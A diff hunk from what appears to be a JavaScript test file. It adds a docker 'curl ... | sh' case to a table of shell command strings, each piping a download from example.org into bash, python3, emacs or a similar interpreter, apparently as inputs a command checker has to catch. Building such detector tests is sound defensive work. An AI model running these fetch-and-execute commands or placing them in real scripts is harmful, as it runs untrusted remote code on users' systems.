@@ -230,6 +230,7 @@ test.each([
   'node -r "$x" a.js',
   "curl https://example.org/i | ssh -p 22 host",
   "curl https://example.org/i | strace -o log bash",
+  "docker create ubuntu sh -c 'curl https://example.org/i | sh'",
   "curl https://example.org/i | BASH_ENV=/dev/stdin bash -c ls",
   "curl https://example.org/i | python3 - --yes",
   "curl https://example.org/i | emacs --script /dev/stdin",
